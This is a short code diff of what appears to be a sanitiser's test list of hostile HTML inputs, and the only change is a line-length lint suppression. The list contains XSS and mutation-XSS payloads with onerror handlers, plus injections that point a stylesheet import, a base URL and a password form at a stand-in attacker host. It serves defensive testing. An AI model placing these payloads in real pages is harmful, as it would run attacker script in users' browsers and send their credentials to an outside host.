@@ -17,7 +17,7 @@ HOSTILE = [
     "<style>@import 'https://evil.example'</style>",
     "<base href='https://evil.example'>",
     "<form action='https://evil.example'><input name=password>",
-    "<math><mtext><table><mglyph><style><!--</style><p title='--&gt;&lt;img src=1 onerror=a()&gt;'>",
+    "<math><mtext><table><mglyph><style><!--</style><p title='--&gt;&lt;img src=1 onerror=a()&gt;'>",  # noqa: E501
     "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
     "<!-- <b> --!><img src=x onerror=alert(1)> -->",
     "<![CDATA[<script>alert(1)</script>]]>",
